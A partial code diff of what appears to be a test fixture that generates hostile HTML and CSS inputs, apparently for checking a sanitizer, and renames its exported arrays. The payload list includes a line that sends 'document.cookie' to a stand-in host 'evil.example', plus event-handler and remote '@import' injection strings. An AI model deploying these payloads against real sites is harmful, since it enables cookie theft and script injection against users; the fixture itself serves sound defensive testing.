@@ -1,4 +1,4 @@
-// Texts that try to do more than look: what a member might put into raw HTML and CSS.
+// Every address with every place for one, and every element with every act: what nobody would write out by hand.
 const payloads = [
   'alert(1)',
   'fetch("https://evil.example/"+document.cookie)',
@@ -23,7 +23,7 @@ const tags =
     ' ',
   )
 /** As HTML. */
-export const hostileHtml: readonly string[] = [
+export const combinedHtml: readonly string[] = [
   ...tags.flatMap((tag) =>
     payloads.map((js) => `<${tag} onload="${js}" src="https://evil.example/x" data="x" href="x">${js}</${tag}>`),
   ),
@@ -92,7 +92,7 @@ const cssProperties = [
   'offset-path',
 ]
 /** As CSS. */
-export const hostileCss: readonly string[] = [
+export const combinedCss: readonly string[] = [
   ...cssAddresses.flatMap((address) => cssProperties.map((property) => `p { ${property}: ${address}; color: red }`)),
   '@import "https://evil.example/x.css";',
   '@import url(https://evil.example/x);p{color:red}',
